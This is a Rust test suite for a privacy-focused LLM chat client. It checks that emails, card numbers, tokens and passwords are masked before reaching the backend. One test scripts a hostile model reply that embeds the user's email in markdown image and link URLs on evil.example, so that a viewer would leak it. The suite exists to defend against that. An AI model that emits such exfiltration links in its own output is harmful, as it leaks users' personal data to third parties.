//! Data minimisation on the command line: `sotto ask` never sends a detected
//! value in mask mode (not in the message, not in the history), shows replies
//! with the values put back, stores what was written and what was sent; warn
//! and block refuse; `sotto redact` reports findings.

use std::io::Write;

use super::support::http::{TestServer, delta, done, finish, sse};
use super::support::reopen;
use super::*;

const CARD: &str = "4111 1111 1111 1111";
const EMAIL: &str = "jane.doe@example.org";
const KEY: &str = "ghp_R8d2kLq9ZxW3mN7pT4vB6yC1fH5jK0sA2uE8";

fn ask(sandbox: &Sandbox, config: &Path, args: &[&str]) -> Output {
    let mut full = vec!["ask"];
    full.extend_from_slice(args);
    sandbox
        .sotto(&full)
        .arg("--config")
        .arg(config)
        .env("SOTTO_PASSPHRASE_FILE", sandbox.file("p", PASSPHRASE))
        .output()
        .unwrap()
}

fn config_for(sandbox: &Sandbox, server: &TestServer) -> PathBuf {
    sandbox.llama_config(&server.base_url())
}

#[test]
fn in_mask_mode_no_detected_value_reaches_the_backend_not_even_in_the_history() {
    let sandbox = Sandbox::new();
    drop(new_vault(&sandbox.vault()));
    // The bot answers using the placeholder it was given.
    let server = TestServer::always(|| {
        sse(&[
            delta("I will write to [EMA"),
            delta("IL_1] today."),
            finish("stop"),
            done(),
        ])
    });
    let config = config_for(&sandbox, &server);

    // First message deliberately sent as written (--redact off)...
    let first = ask(
        &sandbox,
        &config,
        &["--redact", "off", &format!("my card is {CARD}, mail {EMAIL}")],
    );
    assert_eq!(code(&first), 0, "{}", stderr(&first));
    let raw = String::from_utf8_lossy(&server.requests()[0].body).into_owned();
    assert!(raw.contains(CARD) && raw.contains(EMAIL), "off sends as written");
    let id = reopen(&sandbox.vault()).list_conversations().unwrap().conversations[0]
        .id
        .to_string();

    // ...then the conversation continues in the default mode, mask.
    let second = ask(
        &sandbox,
        &config,
        &[
            "--conversation",
            &id,
            &format!("also my token {KEY}, and {EMAIL} again"),
        ],
    );
    assert_eq!(code(&second), 0, "{}", stderr(&second));
    let body = String::from_utf8_lossy(&server.requests()[1].body).into_owned();
    for value in [CARD, "4111111111111111", EMAIL, KEY] {
        assert!(!body.contains(value), "{value} was sent: {body}");
    }
    assert!(
        body.contains("[EMAIL_1]") && body.contains("[CREDIT_CARD_1]") && body.contains("[API_KEY_1]"),
        "{body}"
    );
    // The reply is shown with the value put back, and says what was withheld.
    assert_eq!(stdout(&second), format!("I will write to {EMAIL} today.\n"));
    assert!(
        stderr(&second).contains("withheld") && stderr(&second).contains("j•••@example.org"),
        "{}",
        stderr(&second)
    );
    assert!(
        !stderr(&second).contains(EMAIL) && !stderr(&second).contains(KEY),
        "{}",
        stderr(&second)
    );

    // Stored: what was written, what was sent, and the reply as received.
    let vault = reopen(&sandbox.vault());
    let conversation = vault.list_conversations().unwrap().conversations[0].id;
    let messages = vault.newest_messages(conversation, 10).unwrap();
    let third = messages[2].as_ref().unwrap();
    assert_eq!(third.text, format!("also my token {KEY}, and {EMAIL} again"));
    assert_eq!(
        third.meta.sent.as_deref(),
        Some("also my token [API_KEY_1], and [EMAIL_1] again")
    );
    assert_eq!(third.meta.withheld, 2);
    assert_eq!(messages[3].as_ref().unwrap().text, "I will write to [EMAIL_1] today.");
    drop(vault);

    // The egress ledger counts what went to the backend, as sent.
    let out = sandbox
        .sotto(&["view", "--json"])
        .arg("--config")
        .arg(&config)
        .env("SOTTO_PASSPHRASE_FILE", sandbox.path("p"))
        .output()
        .unwrap();
    let view: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let llama = view["backends"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["name"] == "llama")
        .unwrap()
        .clone();
    let written = format!("my card is {CARD}, mail {EMAIL}").chars().count()
        + "also my token [API_KEY_1], and [EMAIL_1] again".chars().count();
    assert_eq!(
        llama["sent"],
        serde_json::json!({"messages": 2, "characters": written, "items_withheld": 2})
    );
}

#[test]
fn a_value_repeated_without_its_cue_or_known_from_earlier_never_reaches_the_backend() {
    const PASSWORD: &str = "Zq8vLp2xR4wT";
    const ROUTER: &str = "Hx7pQ2mVt9Lk3";
    let sandbox = Sandbox::new();
    drop(new_vault(&sandbox.vault()));
    let server = TestServer::always(|| sse(&[delta("noted"), finish("stop"), done()]));
    let config = config_for(&sandbox, &server);
    let body = |n: usize| String::from_utf8_lossy(&server.requests()[n].body).into_owned();

    // Sent as written on purpose: the history holds a value in clear.
    let first = ask(
        &sandbox,
        &config,
        &["--redact", "off", &format!("the router password: {ROUTER}")],
    );
    assert_eq!(code(&first), 0, "{}", stderr(&first));
    assert!(body(0).contains(ROUTER));
    let id = reopen(&sandbox.vault()).list_conversations().unwrap().conversations[0]
        .id
        .to_string();

    // The cue fires once; the repeat two words later is the same value.
    let second = ask(
        &sandbox,
        &config,
        &[
            "--conversation",
            &id,
            &format!("password: {PASSWORD} -- please remember {PASSWORD}"),
        ],
    );
    assert_eq!(code(&second), 0, "{}", stderr(&second));
    let sent = body(1);
    assert!(!sent.contains(PASSWORD) && !sent.contains(ROUTER), "{sent}");
    assert!(
        sent.contains("password: [SECRET_2] -- please remember [SECRET_2]"),
        "{sent}"
    );
    assert!(
        stderr(&second).contains("sent as placeholders: SECRET (12 chars)\n"),
        "one item: {}",
        stderr(&second)
    );

    // Later, both values again, without any cue: neither leaves.
    let third = ask(
        &sandbox,
        &config,
        &["--conversation", &id, &format!("is it {PASSWORD} or {ROUTER}?")],
    );
    assert_eq!(code(&third), 0, "{}", stderr(&third));
    let sent = body(2);
    assert!(!sent.contains(PASSWORD) && !sent.contains(ROUTER), "{sent}");
    assert!(sent.contains("is it [SECRET_2] or [SECRET_1]?"), "{sent}");
    assert!(
        stderr(&third).contains("SECRET (12 chars), SECRET (13 chars)"),
        "{}",
        stderr(&third)
    );

    // What is stored says what was sent, and how many items were withheld.
    let vault = reopen(&sandbox.vault());
    let conversation = vault.list_conversations().unwrap().conversations[0].id;
    let messages = vault.newest_messages(conversation, 10).unwrap();
    let second = messages[2].as_ref().unwrap();
    assert_eq!(second.meta.withheld, 1);
    let third = messages[4].as_ref().unwrap();
    assert_eq!(third.meta.sent.as_deref(), Some("is it [SECRET_2] or [SECRET_1]?"));
    assert_eq!(third.meta.withheld, 2);
}

#[test]
fn a_hostile_reply_never_gets_a_value_put_back_inside_a_url_shown_or_exported() {
    let sandbox = Sandbox::new();
    drop(new_vault(&sandbox.vault()));
    // The bot tries to carry the value off in an image that a viewer loads,
    // a link, and a bare URL; in prose the placeholder is fine.
    let reply = "Noted, [EMAIL_1]. ![s](https://evil.example/p.png?u=[EMAIL_1]) \
                 [docs](https://evil.example/?e=[EMAIL_1]) https://evil.example/t?u=[EMAIL_1]";
    let server = TestServer::always(move || sse(&[delta(reply), finish("stop"), done()]));
    let config = config_for(&sandbox, &server);
    let out = ask(&sandbox, &config, &[&format!("please write to {EMAIL}")]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let shown = stdout(&out);
    assert_eq!(
        shown,
        format!(
            "Noted, {EMAIL}. ![s](https://evil.example/p.png?u=[EMAIL_1]) \
             [docs](https://evil.example/?e=[EMAIL_1]) https://evil.example/t?u=[EMAIL_1]\n"
        )
    );

    let export = |format: &str| {
        let file = sandbox.path(&format!("export.{format}"));
        let out = sandbox
            .sotto(&[
                "export",
                "--plaintext",
                "--format",
                format,
                "-o",
                file.to_str().unwrap(),
            ])
            .arg("--config")
            .arg(&config)
            .env("SOTTO_PASSPHRASE_FILE", sandbox.path("p"))
            .output()
            .unwrap();
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        std::fs::read_to_string(file).unwrap()
    };
    let json: serde_json::Value = serde_json::from_str(&export("json")).unwrap();
    let reply_json = &json["conversations"][0]["messages"][1];
    assert_eq!(reply_json["text"], reply, "stored as received");
    let shown_in_json = reply_json["shown"].as_str().unwrap();
    assert!(
        shown_in_json.starts_with(&format!("Noted, {EMAIL}. ")),
        "{shown_in_json}"
    );
    assert_eq!(shown_in_json.matches(EMAIL).count(), 1, "{shown_in_json}");
    assert_eq!(shown_in_json.matches("[EMAIL_1]").count(), 3, "{shown_in_json}");

    let markdown = export("markdown");
    assert!(markdown.contains(&format!("Noted, {EMAIL}.")), "{markdown}");
    assert!(
        !markdown.contains("u=jane") && !markdown.contains("e=jane"),
        "{markdown}"
    );
    assert!(
        markdown.contains("[image: s] `https://evil.example/p.png?u=[EMAIL_1]`"),
        "{markdown}"
    );
    // No image syntax with a remote address is left for a viewer to load.
    let image = regex::Regex::new(r"!\[[^\]]*\]\(\s*<?(?:[a-zA-Z][a-zA-Z0-9+.-]*:)?//").unwrap();
    assert!(!image.is_match(&markdown), "{markdown}");
    assert!(!markdown.contains("]("), "no inline link or image at all: {markdown}");
}

#[test]
fn redaction_off_from_the_environment_the_flag_or_the_vault_is_said_on_every_send() {
    let sandbox = Sandbox::new();
    let mut vault = new_vault(&sandbox.vault());
    let id = vault.create_conversation("t").unwrap().to_string();
    drop(vault);
    let warnings = |out: &Output| {
        assert_eq!(code(out), 0, "{}", stderr(out));
        stderr(out).lines().filter(|l| l.contains("redaction is 'off'")).count()
    };
    let ask = |env: Option<&str>, args: &[&str]| {
        let mut full = vec!["ask"];
        full.extend_from_slice(args);
        full.push("hello");
        let mut command = sandbox.sotto(&full);
        command.env("SOTTO_PASSPHRASE_FILE", sandbox.file("p", PASSPHRASE));
        if let Some(mode) = env {
            command.env("SOTTO_REDACT", mode);
        }
        command.output().unwrap()
    };

    // The default, mask: nothing to say.
    assert_eq!(warnings(&ask(None, &[])), 0);
    // The environment variable alone, as a script would inherit it.
    let out = ask(Some("off"), &[]);
    assert_eq!(warnings(&out), 1, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("SOTTO_REDACT") && stderr(&out).contains("'local'"),
        "{}",
        stderr(&out)
    );
    // The flag, in incognito too.
    assert_eq!(warnings(&ask(None, &["--redact", "off"])), 1);
    let mut incognito = sandbox.sotto(&["--incognito", "ask", "hello"]);
    incognito.env("SOTTO_REDACT", "off");
    assert_eq!(warnings(&incognito.output().unwrap()), 1);
    // The vault's setting, for a conversation continued later.
    let mut vault = reopen(&sandbox.vault());
    vault.set_setting("redaction.mode", "off").unwrap();
    drop(vault);
    let out = ask(None, &["--conversation", &id]);
    assert_eq!(warnings(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("'redaction.mode'"), "{}", stderr(&out));
    // Asked for mask explicitly, nothing is said.
    assert_eq!(warnings(&ask(Some("mask"), &[])), 0);

    // The variable is in the help's list of the environment.
    let help = stdout(&sandbox.sotto(&["--help"]).output().unwrap());
    assert!(help.contains("SOTTO_REDACT"), "{help}");
}

#[test]
fn personal_data_given_as_an_argument_is_told_once_to_come_on_stdin() {
    let sandbox = Sandbox::new();
    drop(new_vault(&sandbox.vault()));
    let notes = |out: &Output| {
        assert_eq!(code(out), 0, "{}", stderr(out));
        stderr(out)
            .lines()
            .filter(|l| l.contains("given as an argument") && l.contains("stdin"))
            .count()
    };
    let in_argument = sandbox.run(&["ask", &format!("my card is {CARD}")], Some(PASSPHRASE));
    assert_eq!(notes(&in_argument), 1, "{}", stderr(&in_argument));
    assert!(!stderr(&in_argument).contains(CARD), "{}", stderr(&in_argument));
    // Nothing personal in the argument: nothing to say.
    assert_eq!(notes(&sandbox.run(&["ask", "how do I wipe?"], Some(PASSPHRASE))), 0);
    // On stdin, the private way: nothing to say either.
    let mut command = sandbox.sotto(&["ask"]);
    command.env("SOTTO_PASSPHRASE_FILE", sandbox.file("p", PASSPHRASE));
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("my card is {CARD}").as_bytes())
        .unwrap();
    assert_eq!(notes(&child.wait_with_output().unwrap()), 0);
    // And the help says which way is private.
    let help = stdout(&sandbox.sotto(&["ask", "--help"]).output().unwrap());
    assert!(help.contains("Stdin is the private way"), "{help}");
}

#[test]
fn warn_and_block_send_and_store_nothing_and_never_quote_the_value() {
    let sandbox = Sandbox::new();
    drop(new_vault(&sandbox.vault()));
    let server = TestServer::always(|| sse(&[delta("ok"), finish("stop"), done()]));
    let config = config_for(&sandbox, &server);
    for mode in ["warn", "block"] {
        let out = ask(&sandbox, &config, &["--redact", mode, &format!("card {CARD} please")]);
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains("CREDIT_CARD •••• 1111") && err.contains("--redact mask"),
            "{err}"
        );
        assert!(!err.contains(CARD), "{err}");
    }
    // A secret is named by its kind and length only: not even its prefix.
    let out = ask(&sandbox, &config, &["--redact", "block", &format!("token {KEY}")]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("API_KEY (40 chars)"), "{}", stderr(&out));
    assert!(!stderr(&out).contains(&KEY[..4]), "{}", stderr(&out));
    assert!(server.requests().is_empty());
    assert!(
        reopen(&sandbox.vault())
            .list_conversations()
            .unwrap()
            .conversations
            .is_empty()
    );
    // Nothing to withhold: block sends.
    let out = ask(&sandbox, &config, &["--redact", "block", "just a question"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
}

#[test]
fn incognito_asks_are_masked_too() {
    let sandbox = Sandbox::new();
    let server = TestServer::always(|| sse(&[delta("noted [CREDIT_CARD_1]"), finish("stop"), done()]));
    let config = config_for(&sandbox, &server);
    let out = sandbox
        .sotto(&["--incognito", "ask", &format!("card {CARD}")])
        .arg("--config")
        .arg(&config)
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(!String::from_utf8_lossy(&server.requests()[0].body).contains("4111"));
    assert_eq!(stdout(&out), format!("noted {CARD}\n"));
}

#[test]
fn redact_prints_masked_text_or_json_with_character_offsets() {
    let sandbox = Sandbox::new();
    let run = |args: &[&str], input: &str| {
        let mut child = sandbox
            .sotto(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let text = format!("héllo {EMAIL}, card {CARD}");
    let out = run(&["redact"], &text);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(stdout(&out), "héllo [EMAIL_1], card [CREDIT_CARD_1]");
    assert!(
        stderr(&out).contains("2 item(s) withheld from the backend (EMAIL, CREDIT_CARD), sent as placeholders"),
        "{}",
        stderr(&out)
    );
    let out = run(&["redact", "--json"], &text);
    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(json["text"], "héllo [EMAIL_1], card [CREDIT_CARD_1]");
    assert_eq!(
        json["findings"],
        serde_json::json!([
            {"type": "EMAIL", "start": 6, "end": 26},
            {"type": "CREDIT_CARD", "start": 33, "end": 52}
        ])
    );
    let bad = sandbox
        .sotto(&["redact"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(&[0x66, 0xff, 0x67])?;
            c.wait_with_output()
        })
        .unwrap();
    assert_eq!(code(&bad), 1);
    assert!(stderr(&bad).contains("not UTF-8"), "{}", stderr(&bad));
}

#[test]
fn only_the_configured_amount_of_history_travels_and_view_says_so() {
    let sandbox = Sandbox::new();
    drop(new_vault(&sandbox.vault()));
    let server = TestServer::always(|| sse(&[delta("ok"), finish("stop"), done()]));
    let config = sandbox.file(
        "config.toml",
        &format!(
            "default_backend = \"llama\"\n[context]\nmax_messages = 2\n[backends.llama]\nkind = \"openai\"\nbase_url = \"{}\"\n",
            server.base_url()
        ),
    );
    let first = ask(&sandbox, &config, &["question one"]);
    assert_eq!(code(&first), 0, "{}", stderr(&first));
    let id = reopen(&sandbox.vault()).list_conversations().unwrap().conversations[0]
        .id
        .to_string();
    for n in ["two", "three"] {
        let out = ask(&sandbox, &config, &["--conversation", &id, &format!("question {n}")]);
        assert_eq!(code(&out), 0, "{}", stderr(&out));
    }
    let last = server.requests().last().unwrap().json();
    let contents: Vec<&str> = last["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["content"].as_str().unwrap())
        .collect();
    assert_eq!(contents, ["question two", "ok", "question three"]);
    let out = sandbox
        .sotto(&["view", "--json"])
        .arg("--config")
        .arg(&config)
        .env("SOTTO_PASSPHRASE_FILE", sandbox.path("p"))
        .output()
        .unwrap();
    let view: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(view["data_minimisation"]["context"]["max_messages"], 2);
    assert_eq!(view["data_minimisation"]["redaction_mode"], "mask");
}

/// One labelled case of the redaction corpus (tests/data/redact).
#[derive(serde::Deserialize)]
struct Case {
    id: String,
    text: String,
    entities: Vec<Labelled>,
}

#[derive(serde::Deserialize)]
struct Labelled {
    start: usize,
    end: usize,
}

#[test]
fn for_every_labelled_case_the_backend_receives_none_of_the_values_sotto_finds() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/redact");
    let cases: Vec<Case> = ["tune.jsonl", "holdout.jsonl", "fresh.jsonl"]
        .iter()
        .flat_map(|name| {
            std::fs::read_to_string(dir.join(name))
                .unwrap()
                .lines()
                .map(|l| serde_json::from_str::<Case>(l).unwrap())
                .collect::<Vec<_>>()
        })
        .filter(|c| !c.entities.is_empty())
        .collect();
    assert!(cases.len() >= 2_500, "{} positive cases", cases.len());
    let sandbox = Sandbox::new();
    let server = TestServer::always(|| sse(&[delta("ok"), finish("stop"), done()]));
    let config = config_for(&sandbox, &server);
    // Cases travel in batches (one `sotto ask` each, so the run stays short),
    // apart from each other by a rule no detector reads across.
    const SEPARATOR: &str = "\n\n----- next case -----\n\n";
    let mut checked = 0;
    for (batch_index, batch) in cases.chunks(60).enumerate() {
        let message = batch
            .iter()
            .map(|c| c.text.as_str())
            .collect::<Vec<_>>()
            .join(SEPARATOR);
        let mut child = sandbox
            .sotto(&["--incognito", "ask"])
            .arg("--config")
            .arg(&config)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(message.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        assert_eq!(code(&out), 0, "batch {batch_index}: {}", stderr(&out));
        let body: serde_json::Value = serde_json::from_slice(&server.requests()[batch_index].body).unwrap();
        let sent = body["messages"].as_array().unwrap().last().unwrap()["content"]
            .as_str()
            .unwrap()
            .to_owned();
        for case in batch {
            let findings = sotto::redact::detect(&case.text);
            for e in &case.entities {
                // The labelled values sotto finds on their own (the gate
                // measures the ones it misses).
                if !findings.iter().any(|f| f.start <= e.start && f.end >= e.end) {
                    continue;
                }
                let value = &case.text[e.start..e.end];
                let before = message.matches(value).count();
                let after = sent.matches(value).count();
                // A long value is masked everywhere; a short one where it
                // was found (elsewhere it may be an ordinary word).
                if value.chars().count() >= sotto::redact::mask::MIN_REPEAT_CHARS {
                    assert_eq!(after, 0, "{}: a value reached the backend", case.id);
                } else {
                    assert!(after < before, "{}: a short value reached the backend", case.id);
                }
                checked += 1;
            }
        }
    }
    assert!(checked >= 3_000, "{checked} values checked");
}
